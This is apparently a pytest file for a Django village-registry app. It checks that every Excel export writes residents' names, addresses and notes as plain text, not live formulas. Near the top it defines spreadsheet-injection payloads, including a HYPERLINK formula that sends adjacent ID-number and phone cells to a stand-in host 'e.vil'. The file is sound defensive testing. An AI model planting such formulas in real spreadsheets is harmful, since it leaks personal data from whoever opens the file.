"""Every export writes people's text as text: a household address, a name or a note that begins with
``=`` (or ``+``, ``-``, ``@``, a tab, a carriage return, a full-width sign) comes out of the workbook as
the same string, never as a live formula that reaches out to a web address when the file is opened.

Each test plants the variants in what one export carries, downloads it as the user who may, reads it
back with openpyxl and looks at every cell of every sheet."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from audit import trail
from audit.models import AuditAction
from core import excel as core_excel
from grids.models import Grid, User, Village
from reports import services as report_services
from reports.models import MonthlyReport
from residents import excel
from residents.models import Household, ImportJob, KeyPerson, KeyPlace, Resident
from tests.conftest import make_case
from visits import due

# A link that sends the cells beside it (the ID number, the phone) to someone else's server.
LINK = '=HYPERLINK("http://e.vil/?"&J2&J3,"详情")'
PLANTED = [
    LINK,
    '+1+HYPERLINK("http://e.vil")',
    '-1+HYPERLINK("http://e.vil")',
    "@SUM(1+1)*2",
    "\t=1+2",
    "\r=3+4",
    '＝HYPERLINK("http://e.vil")',
]


def assert_text_only(content: bytes, planted: list[str]) -> None:
    """No formula (and no error value) anywhere in the workbook; each planted text is there as a string."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    live = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type in ("f", "e")]
    assert live == []
    texts = [c.value for c in cells if c.data_type == "s" and isinstance(c.value, str)]
    for text in planted:
        # A column read through the sheet's own text rule is trimmed (a tab or CR in front goes), the
        # rest is kept as written.
        assert any(text.strip() in value for value in texts), text


@pytest.mark.parametrize("url", ["residents:household-export", "residents:resident-export"])
def test_the_registry_exports_write_addresses_and_names_as_text(client, world, staff, url):
    Household.objects.filter(pk=world.household1.pk).update(address=PLANTED[0])
    Resident.objects.filter(pk=world.resident1.pk).update(
        name=PLANTED[1], occupation=PLANTED[2], workplace=PLANTED[3], hukou_place=PLANTED[4]
    )
    Resident.objects.filter(pk=world.resident2.pk).update(current_address=PLANTED[5], away_place=PLANTED[6])
    client.force_login(staff)
    response = client.get(reverse(url))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_key_person_export_writes_notes_as_text(client, world, staff):
    KeyPerson.objects.filter(pk=world.key_person1.pk).update(
        note=PLANTED[0],
        difficulties=PLANTED[1],
        resettlement=PLANTED[2],
        health=PLANTED[3],
        guardian_name=PLANTED[4],
        guardian_phone=PLANTED[5][:20],
    )
    Resident.objects.filter(pk=world.resident1.pk).update(name=PLANTED[6])
    client.force_login(staff)
    response = client.get(reverse("residents:keyperson-export"))
    assert response.status_code == 200
    assert_text_only(response.content, [*PLANTED[:5], PLANTED[6]])


def test_the_key_place_export_writes_names_as_text(client, world, staff):
    KeyPlace.objects.filter(pk=world.key_place1.pk).update(
        name=PLANTED[0], address=PLANTED[1], person_in_charge=PLANTED[2], hazards=PLANTED[3]
    )
    second = KeyPlace.objects.get(pk=world.key_place1.pk)
    second.pk = None
    second.name, second.address, second.hazards, second.person_in_charge = PLANTED[4], PLANTED[5], PLANTED[6], ""
    second.save()
    client.force_login(staff)
    response = client.get(reverse("residents:keyplace-export"))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_case_export_writes_titles_and_parties_as_text(client, world, staff, worker):
    for text in PLANTED:
        make_case(world, worker, title=text)
    client.force_login(staff)
    response = client.get(reverse("disputes:case-export"))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_audit_export_writes_notes_and_changes_as_text(client, world, staff, town):
    with trail.acting_as(user=staff):
        for n, text in enumerate(PLANTED):
            trail.record(
                AuditAction.CHANGE, world.household1, note=text, changes={"address": ["张庄1号", PLANTED[-1 - n]]}
            )
    client.force_login(town)
    response = client.get(reverse("audit:audit-export"))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_monthly_report_export_writes_its_sections_and_names_as_text(client, world, staff, worker):
    month = due.previous_month(timezone.localdate())
    report = report_services.report_open(village=world.village, month=month, by=staff)
    MonthlyReport.objects.filter(pk=report.pk).update(
        work_done=PLANTED[0], problems=PLANTED[1], next_plan=PLANTED[2], good_practices=PLANTED[3]
    )
    Grid.objects.filter(pk=world.grid1.pk).update(name=PLANTED[4][:50])
    Grid.objects.filter(pk=world.grid2.pk).update(name=PLANTED[5][:50])
    User.objects.filter(pk=worker.pk).update(full_name=PLANTED[6])
    client.force_login(staff)
    response = client.get(reverse("reports:report-export", args=[report.pk]))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_town_dashboard_export_writes_village_names_as_text(client, world, town):
    Village.objects.filter(pk=world.village.pk).update(name=PLANTED[0])
    Village.objects.filter(pk=world.other_village.pk).update(name=PLANTED[1])
    for text in PLANTED[2:]:
        Village.objects.create(town=world.town, name=text)
    client.force_login(town)
    response = client.get(reverse("reports:town-dashboard-export"))
    assert response.status_code == 200
    assert_text_only(response.content, PLANTED)


def test_the_import_error_rows_come_back_as_text(client, world, staff, django_capture_on_commit_callbacks):
    """A text cell of the uploaded file that begins with "=" is handed back in the error rows as text."""
    title, columns = excel.SHEETS["households"]
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append([c.header for c in columns])
    values = {"household_number": "H1", "name": "导入甲", "id_number": "11010519491231002", "address": LINK}
    sheet.append([values.get(c.key, "") for c in columns])
    for cell in sheet[2]:
        cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type  # a text cell, as typed
    out = io.BytesIO()
    book.save(out)
    upload = io.BytesIO(out.getvalue())
    upload.name = "registry.xlsx"
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("residents:import-new", args=[world.village.pk]), {"kind": "households", "file": upload})
    job = ImportJob.objects.latest("pk")
    response = client.get(reverse("residents:import-errors", args=[job.pk]))
    assert response.status_code == 200
    assert_text_only(response.content, [LINK])


def test_the_writer_keeps_text_exactly_and_numbers_as_numbers():
    """The shared writer: any text is a string cell, unchanged (an export re-imports as written); what
    the code itself writes as a number stays a number; characters a workbook cannot hold are dropped
    instead of failing the whole export."""
    columns = [core_excel.Column("文本", "text"), core_excel.Column("数", "n", write=lambda v: v)]
    texts = [*PLANTED, "#N/A", "#DIV/0!", "=", "普通文字"]
    rows = [{"text": t, "n": i} for i, t in enumerate(texts)] + [{"text": "控制\x01字符", "n": 1.5}]
    content = core_excel.write_workbook("表", columns, rows)
    sheet = load_workbook(io.BytesIO(content)).active
    body = list(sheet.iter_rows(min_row=2))
    assert [(r[0].data_type, r[0].value) for r in body[: len(texts)]] == [("s", t.strip()) for t in texts]
    assert body[-1][0].value == "控制字符"
    assert [(r[1].data_type, r[1].value) for r in body] == [("n", i) for i in range(len(texts))] + [("n", 1.5)]
    # The reader gets the text back as written.
    read = list(core_excel.read_sheet(content, "表", columns))
    assert [r.values["text"] for r in read][: len(texts)] == [t.strip() for t in texts]


def test_no_app_writes_a_workbook_but_through_core_excel():
    """One writer for every export, so the rule above holds for all of them."""
    root = Path(__file__).resolve().parent.parent
    apps = [folder for folder in root.iterdir() if (folder / "apps.py").exists() or folder.name == "governance"]
    writers = []
    for path in (path for folder in apps for path in folder.rglob("*.py")):
        if path == root / "core" / "excel.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "from openpyxl import" in text and "Workbook" in text.split("from openpyxl import", 1)[1].split("\n")[0]:
            writers.append(str(path.relative_to(root)))
    assert writers == []
